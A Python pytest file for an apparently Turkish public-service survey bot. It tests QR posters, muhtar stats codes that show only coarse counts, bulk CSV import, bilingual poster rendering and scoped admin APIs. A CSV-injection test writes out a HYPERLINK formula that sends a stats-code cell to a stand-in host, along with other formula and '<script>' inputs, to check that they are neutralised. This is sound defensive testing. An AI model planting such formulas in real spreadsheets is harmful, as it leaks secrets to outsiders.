"""A muhtar's whole path: the poster is made, a neighbour scans it, answers, and the muhtar sees
how far the link reached - never what anyone answered."""

from __future__ import annotations

import asyncio
import csv
import re
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pypdfium2 as pdfium
import pytest
import zxingcpp

from conversations.links import LinkPlace, new_payload, new_stats_code, stats_code_digest
from conversations.places import match_district
from conversations.survey import builtin_surveys
from storage.links import NewLink, create_link
from tests.cli import izdes, run_izdes
from tests.conftest import TOKEN_KEY
from tests.stored import answers_of, the_response, within
from tests.survey_steps import ADULT, ADULT_QUESTION, AGREE, answer_after_province, read_notice, tap
from tests.telegram_double import BotMessage, Citizen

PROVINCE_QUESTION = "Hizmeti hangi ilde aldınız?"
SERVICE_QUESTION = "Hangi hizmeti değerlendirmek istersiniz?"


def render(pdf: Path, scale: float = 2.0):
    document = pdfium.PdfDocument(str(pdf))
    try:
        page = document[0]
        return page.render(scale=scale).to_pil().convert("L"), page.get_textpage().get_text_range()
    finally:
        document.close()


def scan(poster: Path) -> str:
    """What a phone camera reads off the printed poster."""
    image, _ = render(poster)
    found = zxingcpp.read_barcodes(image)
    assert len(found) == 1, "the poster must show exactly one readable QR code"
    return found[0].text


@dataclass(frozen=True)
class MadeLink:
    id: str
    url: str
    stats_code: str
    poster: Path


async def create_link_with_cli(db, telegram, out: Path, *args: str) -> MadeLink:
    """`izdes links create ...` as an administrator runs it."""
    output = await asyncio.to_thread(
        izdes, db.url, "links", "create", *args, "--out", str(out),
        bot_token=telegram.token, bot_api_url=telegram.root_url)
    url = re.search(r"https://t\.me/\S+", output).group(0)
    code = re.search(r"stats code .*: (\S+)", output).group(1)
    poster = next(Path(line.strip()) for line in output.splitlines()
                  if line.strip().endswith("-poster.pdf"))
    link_id = re.search(r"^link (\d+)", output, re.M).group(1)
    return MadeLink(link_id, url, code, poster)


def payload_of(url: str) -> str:
    return url.split("?start=", 1)[1]


async def answer_to_the_end(citizen: Citizen, finish_label: str) -> BotMessage:
    """Take the first answer of every question (skip what has no answers) until the end."""
    question = citizen.last
    for _ in range(30):
        if finish_label in question.labels():
            return question
        buttons = [b for row in question.buttons for b in row]
        answers = [b for b in buttons if b.callback_data.startswith("a.")]
        pick = answers[0] if answers else next(
            b for b in buttons if b.callback_data.startswith("s."))
        question = await tap(citizen, pick.label)
    raise AssertionError(citizen.transcript())


async def stats_reply(telegram, code: str, user_id: int = 777) -> str:
    muhtar = telegram.citizen(user_id, first_name="Muhtar")
    await muhtar.send(f"/istatistik {code}")
    return (await muhtar.next_message()).plain


async def test_poster_scan_survey_and_the_muhtars_stats(bot, telegram, db, tmp_path):
    made = await create_link_with_cli(
        db, telegram, tmp_path, "--province", "34", "--district", "Kadıköy",
        "--mahalle", "Caferağa")
    url, code, poster = made.url, made.stats_code, made.poster
    assert url == scan(poster)  # the printed code is the link itself
    assert url.startswith(f"https://t.me/{telegram.bot_username}?start=")
    assert re.fullmatch(r"[A-Za-z0-9_-]{1,64}", payload_of(url))

    citizen = telegram.citizen(6001)
    await citizen.send(f"/start {payload_of(url)}")
    await read_notice(citizen)
    await citizen.press(AGREE)
    assert ADULT_QUESTION in (await citizen.next_message()).text
    first = await tap(citizen, ADULT)
    assert SERVICE_QUESTION in first.text
    await tap(citizen, "Trafik")
    await tap(citizen, "Son 7 gün içinde")
    after_channel = await tap(citizen, "Yüz yüze")
    # Province and district come from the link: the next question is about the visit.
    assert PROVINCE_QUESTION not in after_channel.text
    assert "Hangi ilçede?" not in after_channel.text
    closing = await answer_after_province(citizen)
    assert "Yanıtlarınız kaydedildi" in closing.text
    assert PROVINCE_QUESTION not in citizen.transcript()

    response = await the_response(db)
    kadikoy = match_district("34", "Kadıköy").best
    assert (response.status, response.province, response.district, response.mahalle) == (
        "completed", "34", str(kadikoy.district_id), "Caferağa")
    assert response.link_id is not None
    assert (await answers_of(db, response.id))["province"] == "34"

    stats = await stats_reply(telegram, code)
    assert "Caferağa Muhtarlığı" in stats and "Kadıköy, İstanbul" in stats
    assert "Bağlantıyı açan: 10 kişiden az" in stats
    assert "Katılmayı kabul eden: 10 kişiden az" in stats
    assert "Anketi tamamlayan: 10 kişiden az" in stats
    # Counts only: not the service, not a score, not a word of any answer.
    for answer in ("Trafik", "Memnun", "Yüz yüze", "Katılıyorum"):
        assert answer not in stats


async def test_a_link_for_one_service_in_arabic(bot, telegram, db, tmp_path):
    poster = (await create_link_with_cli(
        db, telegram, tmp_path, "--province", "Gaziantep", "--district", "Şahinbey",
        "--mahalle", "Karataş", "--service", "goc", "--arabic")).poster
    citizen = telegram.citizen(6002, first_name="Amal", language_code="ar")
    await citizen.send(f"/start {payload_of(scan(poster))}")
    await read_notice(citizen)
    await citizen.press("✅ أوافق")
    await citizen.next_message()  # 18 or older?
    first = await tap(citizen, "نعم")
    assert "متى استخدمتم هذه الخدمة آخر مرة" in first.text  # service and place are known
    closing = await answer_to_the_end(citizen, "تقييم خدمة أخرى")
    assert closing.text
    response = await the_response(db)
    assert (response.status, response.province, response.service, response.mahalle) == (
        "completed", "27", "goc", "Karataş")


async def test_tampered_unknown_expired_and_disabled_links_start_the_normal_survey(
        bot, telegram, db, tmp_path):
    made = await create_link_with_cli(db, telegram, tmp_path, "--province", "06",
                                      "--mahalle", "Kızılay")
    payload = payload_of(made.url)
    tampered = payload[:-1] + ("A" if payload[-1] != "A" else "B")
    expired = new_payload()
    await within(db, create_link, NewLink(
        payload=expired, stats_digest=stats_code_digest(new_stats_code()), label="Eski",
        province="35", valid_until=date.today() - timedelta(days=2)))
    await asyncio.to_thread(izdes, db.url, "links", "disable", made.id)

    for user_id, start in enumerate((tampered, "M" + "x" * 63, expired, payload), 6100):
        citizen = telegram.citizen(user_id)
        await citizen.send(f"/start {start}")
        await read_notice(citizen)
        await citizen.press(AGREE)
        await citizen.next_message()
        await tap(citizen, ADULT)
        await tap(citizen, "Trafik")
        await tap(citizen, "Son 7 gün içinde")
        question = await tap(citizen, "Yüz yüze")
        assert PROVINCE_QUESTION in question.text, start

    stats = await stats_reply(telegram, made.stats_code)
    assert "henüz kimse açmadı" in stats  # a disabled link counts nobody


async def test_a_link_stays_valid_through_its_last_day(bot, telegram, db):
    today_in_turkey = (datetime.now(UTC) + timedelta(hours=3)).date()
    payload = new_payload()
    await within(db, create_link, NewLink(payload=payload,
                                  stats_digest=stats_code_digest(new_stats_code()),
                                  label="Son gün", province="16", valid_until=today_in_turkey))
    citizen = telegram.citizen(6200)
    await citizen.send(f"/start {payload}")
    await read_notice(citizen)
    await citizen.press(AGREE)
    await citizen.next_message()
    await tap(citizen, ADULT)
    await tap(citizen, "Nüfus")
    await tap(citizen, "Son 7 gün içinde")
    question = await tap(citizen, "Yüz yüze")
    assert PROVINCE_QUESTION not in question.text


async def test_stats_codes_are_forgiving_to_type_and_strangers_learn_nothing(
        bot, telegram, db, tmp_path):
    code = (await create_link_with_cli(db, telegram, tmp_path, "--province", "01")).stats_code
    typed = code.replace("-", " ").lower()
    assert "Bağlantınızın erişimi" in await stats_reply(telegram, typed, 801)
    wrong = await stats_reply(telegram, "ABCD-EFGH-JKMN", 802)
    assert "Bu istatistik koduna ait bir bağlantı yok" in wrong
    usage = await stats_reply(telegram, "", 803)
    assert "/istatistik ABCD-EFGH-JKMN" in usage


async def test_opening_twice_counts_two_opens_and_reach_is_coarse_by_month(
        bot, telegram, db, tmp_path):
    made = await create_link_with_cli(db, telegram, tmp_path, "--province", "35")
    url, code = made.url, made.stats_code
    first, second = telegram.citizen(6301), telegram.citizen(6302)
    for citizen in (first, first, second):
        await citizen.send(f"/start {payload_of(url)}")
        await read_notice(citizen)
    await second.press(AGREE)
    await second.next_message()
    stats = await stats_reply(telegram, code)
    # Fewer than ten: the count itself would tell a muhtar that a neighbour just answered.
    assert "Bağlantıyı açan: 10 kişiden az" in stats
    assert "Katılmayı kabul eden: 10 kişiden az" in stats
    assert "Tamamlanma oranı" not in stats
    assert re.search(r"\d{4}: 10 kişiden az / 10 kişiden az / 10 kişiden az", stats), stats
    for number in range(9):
        neighbour = telegram.citizen(6310 + number)
        await neighbour.send(f"/start {payload_of(url)}")
        await read_notice(neighbour)
    stats = await stats_reply(telegram, code, 805)
    assert "Bağlantıyı açan: 10" in stats  # twelve, rounded down to a multiple of five


async def test_bulk_csv_checks_every_row_before_creating_anything(db, telegram, tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text("province,district,mahalle,valid_until\n34,Kadıköy,Caferağa,\n99,,X,\n"
                   "Ankara,Kadıköy,Y,\n35,,Z,2020-01-31\n", encoding="utf-8")
    result = await asyncio.to_thread(run_izdes, db.url, "links", "bulk", str(bad),
                                     "--bot-username", "izdes_bot")
    assert result.returncode == 2
    assert "line 3: no province '99'" in result.stderr
    assert "line 4: no district 'Kadıköy' in Ankara" in result.stderr
    assert "line 5: valid_until 2020-01-31: the day has passed" in result.stderr
    assert "id\tstate" in (listing := await asyncio.to_thread(izdes, db.url, "links", "list"))
    assert len(listing.strip().splitlines()) == 1  # nothing was created

    template = await asyncio.to_thread(izdes, db.url, "links", "template")
    good = tmp_path / "muhtarliklar.csv"
    good.write_text(template, encoding="utf-8")
    out = tmp_path / "out"
    await asyncio.to_thread(izdes, db.url, "links", "bulk", str(good), "--out", str(out),
                            "--bot-username", "izdes_bot")
    with (out / "links.csv").open(encoding="utf-8-sig") as table:
        rows = list(csv.DictReader(table))
    assert [r["mahalle"] for r in rows] == ["Caferağa", "Karataş"]
    for row in rows:
        assert scan(out / row["poster"]) == row["url"]
        assert re.fullmatch(r"[A-Z2-9]{4}-[A-Z2-9]{4}-[A-Z2-9]{4}", row["stats_code"])
        assert (out / row["poster"].replace("-poster.pdf", "-qr.svg")).read_bytes().startswith(
            b"<?xml")
    listing = await asyncio.to_thread(izdes, db.url, "links", "list")
    assert "Karataş Muhtarlığı" in listing and "goc" in listing



async def test_bulk_links_csv_shows_typed_formulas_as_text(db, tmp_path):
    """links.csv holds the stats codes and is opened in a spreadsheet: a label or mahalle
    that starts like a formula shows as typed there, and runs nothing (CSV injection)."""
    hyperlink = '=HYPERLINK("http://x.example/?c="&J2,"Caferağa")'
    rows = tmp_path / "muhtarliklar.csv"
    rows.write_text("province,district,mahalle,label\n"
                    '34,Kadıköy,"' + hyperlink.replace('"', '""') + '",=1+2\n'
                    "06,,@SUM(A1),-2+3\n", encoding="utf-8")
    out = tmp_path / "out"
    await asyncio.to_thread(izdes, db.url, "links", "bulk", str(rows), "--out", str(out),
                            "--bot-username", "izdes_bot")
    with (out / "links.csv").open(encoding="utf-8-sig") as table:
        written = list(csv.DictReader(table))
    assert [(row["label"], row["mahalle"]) for row in written] == [
        ("'=1+2", "'" + hyperlink), ("'-2+3", "'@SUM(A1)")]
    assert not [cell for row in written for cell in row.values()
                if cell.startswith(("=", "+", "-", "@"))]

def make_poster(tmp_path: Path, arabic: bool) -> Path:
    from admin.links import CreatedLink, check_spec
    from admin.posters.files import write_link_files

    spec = check_spec("27", "Şahinbey", "Karataş", arabic=arabic, surveys=builtin_surveys())
    url = "https://t.me/izdes_bot?start=" + new_payload()
    return write_link_files(CreatedLink(9, spec, payload_of(url), new_stats_code(), url),
                            tmp_path).poster


def test_poster_text_renders_turkish_and_arabic(tmp_path):
    from conversations.i18n import Texts

    poster = make_poster(tmp_path, arabic=True)
    image, text = render(poster, scale=1.0)
    # The text layer carries what was drawn: Turkish letters and Arabic in reading order.
    for words in ("Aldığınız kamu hizmeti nasıldı?", "Yaklaşık iki dakika · adınız sorulmaz",
                  "Karataş, Şahinbey, Gaziantep", "İçişleri Bakanlığı",
                  "Telefonunuzun kamerasıyla okutun"):
        assert words in text
    ar = Texts("ar")
    # The Arabic block says what the survey is and, under the code, how to open it.
    for arabic in (ar._("How was the public service you received?"),
                   ar._("Scan with your phone's camera, or open:")):
        assert arabic in text
    # ...and it was drawn: ink in the Turkish title band and in the Arabic title band.
    width, height = image.size

    def ink(top: float, bottom: float) -> int:
        band = image.crop((0, int(top * height), width, int(bottom * height)))
        return sum(1 for value in band.getdata() if value < 128)

    assert ink(0.10, 0.16) > 500
    assert ink(0.24, 0.29) > 500
    pdf = poster.read_bytes()
    embedded = set(re.findall(rb"/BaseFont /[A-Z]{6}\+(\w+)", pdf))
    assert {b"NotoSans", b"NotoSansArabic"} <= embedded  # subsets inside the file
    assert pdf.count(b"/FontFile2") == len(embedded)  # every font travels with the poster


def test_the_erase_command_reads_left_to_right_inside_arabic(tmp_path):
    """"/sil" in the Arabic small print: the slash must stand left of "sil" on paper (it
    was drawn "sil/", the slash pulled to the Arabic side)."""
    document = pdfium.PdfDocument(str(make_poster(tmp_path, arabic=True)))
    try:
        page = document[0].get_textpage()
        chars = [page.get_text_range(i, 1) for i in range(page.count_chars())]
        lefts = [page.get_charbox(i)[0] for i in range(len(chars))]
    finally:
        document.close()
    text = "".join(chars)
    # The text layer may list the Arabic line's glyphs as "sil/": find both orders.
    commands = [(m.start() + (0 if m.group().startswith("/") else 3),
                 m.start() + (1 if m.group().startswith("/") else 0))
                for m in re.finditer(r"/sil|sil/", text)]
    assert len(commands) == 2  # the Turkish footer and the Arabic one
    for slash, s in commands:
        assert chars[slash] == "/" and chars[s] == "s"
        assert lefts[slash] < lefts[s], text[slash - 30:slash + 10]


@pytest.mark.parametrize(("arabic", "smallest_code_mm"), [(False, 120), (True, 90)])
def test_the_poster_fills_the_page_and_stays_inside_it(tmp_path, arabic, smallest_code_mm):
    poster = make_poster(tmp_path, arabic)
    image, _ = render(poster, scale=2.0)
    width, height = image.size
    mm = width / 210
    pixels = image.load()
    inked = [any(pixels[x, y] < 160 for x in range(0, width, 2)) for y in range(height)]
    last = max(y for y, dark in enumerate(inked) if dark)
    # Nothing runs into the bottom margin, and the small print sits at the foot.
    assert 297 - 15 > last / mm > 297 - 40
    # No empty band: the largest stretch of paper without ink, the code's quiet zone
    # included, is under 8 % of the page (it was a fifth: 17 % on the Turkish poster).
    blank = longest = 0
    for dark in inked[:last]:
        blank = 0 if dark else blank + 1
        longest = max(longest, blank)
    assert longest / height < 0.08, longest / height
    # The code is as large as the texts allow, and still one readable code.
    [code] = zxingcpp.read_barcodes(image)
    side = (code.position.top_right.x - code.position.top_left.x) / mm
    assert side >= smallest_code_mm, side


async def test_admins_see_scores_per_link_within_their_scope(bot, db):
    from admin.tokens import create_token, parse_scope
    from storage.links import link_place
    from tests.stored import insert_completed, last_month, publish
    from tests.test_admin_api import get

    async def new_link(province: str, mahalle: str) -> LinkPlace:
        link_id = await within(db, create_link, NewLink(
            payload=new_payload(), stats_digest=stats_code_digest(new_stats_code()),
            label=f"{mahalle} Muhtarlığı", province=province, mahalle=mahalle))
        async with db.transaction() as session:
            return await link_place(session, link_id)

    caferaga, kizilay = await new_link("34", "Caferağa"), await new_link("06", "Kızılay")
    moda = await new_link("34", "Moda")

    def answers(province: str, overall: int) -> dict[str, str]:
        return {"service": "trafik", "recency": "d7", "channel": "in_person",
                "province": province, "traffic_purpose": "fine", "overall": str(overall),
                "effort": "3"}

    overall = [5, 4, 4, 3, 5, 4, 2, 5, 4, 4, 3, 5]
    month = last_month()
    await insert_completed(db, "hizmet", [answers("34", o) for o in overall], caferaga,
                           at=month)
    await insert_completed(db, "hizmet", [answers("06", 4)] * 3, kizilay, at=month)
    # (a third link: with only two, the visible one minus the total would reveal the other)
    await insert_completed(db, "hizmet", [answers("34", 3)] * 10, moda, at=month)
    # (and answers elsewhere: were Ankara the only other province, Türkiye minus İstanbul would
    # be Ankara's 3, and İstanbul's links would all be hidden to cover it)
    await insert_completed(db, "hizmet", [answers("35", 4)] * 12, at=month, prefix="izmir")
    await publish(db)
    national = await create_token(db, TOKEN_KEY, parse_scope("national"), "Bakanlık")
    ankara = await create_token(db, TOKEN_KEY, parse_scope("province:06"), "Ankara Valiliği")

    status, body, _ = await get(bot, "/scores?group_by=link", national)
    assert status == 200
    rows = {r["link_label"]: r for r in body["rows"]}
    assert rows["Caferağa Muhtarlığı"]["n"] == 12
    assert rows["Caferağa Muhtarlığı"]["mean"] == pytest.approx(sum(overall) / 12, abs=0.01)
    assert rows["Caferağa Muhtarlığı"]["link_place"] == "Caferağa, İstanbul"
    assert rows["Kızılay Muhtarlığı"]["suppressed"] and rows["Kızılay Muhtarlığı"]["n"] is None
    assert (await get(bot, "/scores?group_by=province,mahalle", national))[0] == 400

    # A governor's office sees its own links only, whatever it asks for.
    status, body, _ = await get(bot, "/scores?group_by=link", ankara)
    assert [r["link_label"] for r in body["rows"]] == ["Kızılay Muhtarlığı"]
    status, body, _ = await get(bot, "/links", ankara)
    assert [link["mahalle"] for link in body["links"]] == ["Kızılay"]
    assert "stats" not in str(body).lower()  # never a stats code or its digest
    assert (await get(bot, "/links?province=34", ankara))[0] == 403


async def test_the_muhtar_page_on_the_server_shows_the_same_counts(bot, telegram, db, tmp_path):
    import aiohttp

    made = await create_link_with_cli(db, telegram, tmp_path, "--province", "34",
                                      "--mahalle", "Moda")
    citizen = telegram.citizen(6401)
    await citizen.send(f"/start {payload_of(made.url)}")
    await read_notice(citizen)
    async with aiohttp.ClientSession() as http:
        async with http.get(f"{bot.http_url}/istatistik") as form:
            assert form.status == 200 and 'name="kod"' in await form.text()
        async with http.post(f"{bot.http_url}/istatistik",
                             data={"kod": made.stats_code.lower()}) as shown:
            page = await shown.text()
            assert shown.status == 200 and shown.headers["Cache-Control"] == "no-store"
        assert "Moda Muhtarlığı" in page and "Bağlantıyı açan: 10 kişiden az" in page
        assert "Anketi tamamlayan: 10 kişiden az" in page
        async with http.post(f"{bot.http_url}/istatistik", data={"kod": "ABCD-EFGH-JKMN"},
                             headers={"Accept-Language": "ar"}) as wrong:
            page = await wrong.text()
            assert wrong.status == 404 and 'dir="rtl"' in page
            assert "لا يوجد رابط بهذا الرمز" in page
        async with http.post(f"{bot.http_url}/istatistik", data={"kod": "<script>"}) as bad:
            assert bad.status == 400 and "<script>" not in await bad.text()
